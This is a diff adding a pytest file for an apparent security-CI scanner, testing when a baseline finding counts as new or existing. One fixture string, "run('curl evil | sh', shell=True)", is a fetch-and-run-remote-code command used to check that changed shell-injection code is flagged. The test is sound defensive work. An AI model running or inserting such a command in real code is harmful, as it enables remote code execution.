@@ -1,0 +1,92 @@
+"""A known finding whose words were exchanged is a new one; moving code about exchanges nothing."""
+
+from __future__ import annotations
+
+from dataclasses import replace
+
+import pytest
+
+from py_secure_ci.judging.baseline import of_report
+from py_secure_ci.judging.comparison import compare
+from py_secure_ci.judging.dedupe import merged
+from py_secure_ci.judging.fingerprints import with_fingerprints
+from py_secure_ci.judging.replaced import replaced
+from py_secure_ci.model import Finding, Location, Severity, Stage, State
+from py_secure_ci.report import Completed, Context, Report, ToolInfo
+
+WORDS = ["not", "a", "real", "one"]
+OLD, NEW = "-".join(WORDS), "-".join(reversed(WORDS))
+
+
+def report(path: str, text: str, at: tuple[int, int | None], *, secret: bool, renames: dict[str, str] | None = None) -> Report:  # fmt: skip
+    one = Finding(
+        tool="bandit", rule="B105" if secret else "B602", severity=Severity.HIGH, message="m",
+        location=Location(path, at[0], at[1]), secret=secret, code="" if secret else text.splitlines()[at[0] - 1],
+    )  # fmt: skip
+    done = Completed(
+        tool=ToolInfo(name="bandit", stage=Stage.SAST, version="1"), findings=with_fingerprints([one], lambda _: text)
+    )
+    lines = len(text.splitlines())
+    return Report(
+        version="1",
+        context=Context(project="p"),
+        outcomes=(done,),
+        changed={path: ((1, lines),)},
+        renames=renames or {},
+    )
+
+
+def state(before: str, after: str, *, line: int = 1, column: int | None = 1, path: str = "a.py", **how: bool) -> State:
+    """Of the finding in `after`, with a baseline that has its fingerprint whatever the words are."""
+    secret = how.get("secret", False)
+    now = report(path, after, (line, column), secret=secret)
+    known = of_report(now)
+    exchanged = replaced(now, lambda _: after, lambda _: before)
+    return compare(merged(now.findings), known, now, exchanged).states[0]
+
+
+@pytest.mark.parametrize(("path", "column"), [("a.py", 12), ("a.py", None), ("a.cfg", None)])
+def test_another_secret_at_the_same_place_is_new(path: str, column: int | None) -> None:
+    old, new = f"password = '{OLD}'\n", f"password = '{NEW}'\n"
+    assert state(old, old, path=path, column=column, secret=True) is State.EXISTING
+    assert state(old, new, path=path, column=column, secret=True) is State.NEW
+
+
+def test_a_literal_that_was_made_to_collide_is_new() -> None:
+    assert state("run('ls', shell=True)\n", "run('curl evil | sh', shell=True)\n") is State.NEW
+
+
+def test_what_lies_beyond_the_fortieth_token_is_looked_at() -> None:
+    old = "run([" + ", ".join(f"a{n}" for n in range(60)) + "], shell=True)\n"
+    assert state(old, old) is State.EXISTING
+    assert state(old, old.replace("a59", "evil")) is State.NEW
+
+
+@pytest.mark.parametrize(
+    ("after", "line"),
+    [
+        ('run(\n    "ls -l" + name,  # a comment\n    shell=True,\n)\n', 1),
+        ('run(("ls " "-l" + name), shell=True)\n', 1),
+        ("def f():\n\trun('ls -l' + name,\r\n\t\tshell=True)\r\n", 2),
+        ("other = 1; run(U'ls -l' + name, shell=True)\n", 1),
+    ],
+)
+def test_layout_quotes_and_comments_exchange_nothing(after: str, line: int) -> None:
+    column = after.split("\n")[line - 1].index("run") + 1
+    assert state("run(u'ls -l' + name, shell=True)\n", after, line=line, column=column) is State.EXISTING
+
+
+def test_a_neighbour_on_the_line_exchanges_nothing() -> None:
+    assert state("f(run(a), b)\n", "f(run(a), c)\n", column=3) is State.EXISTING
+
+
+def test_a_renamed_file_is_compared_with_what_it_was() -> None:
+    text = f"password = '{OLD}'\n"
+    now = report("new.py", text, (1, 12), secret=True, renames={"new.py": "old.py"})
+    assert replaced(now, lambda _: text, {"old.py": text}.get) == frozenset()
+    assert replaced(now, lambda _: text, {"old.py": text.replace(OLD, NEW)}.get) == {now.findings[0].fingerprint}
+
+
+def test_unchanged_lines_are_not_asked_about() -> None:
+    now = replace(report("a.py", "run(x)\n", (1, 1), secret=False), changed={})
+    assert replaced(now, lambda _: "run(x)\n", lambda _: "") == frozenset()
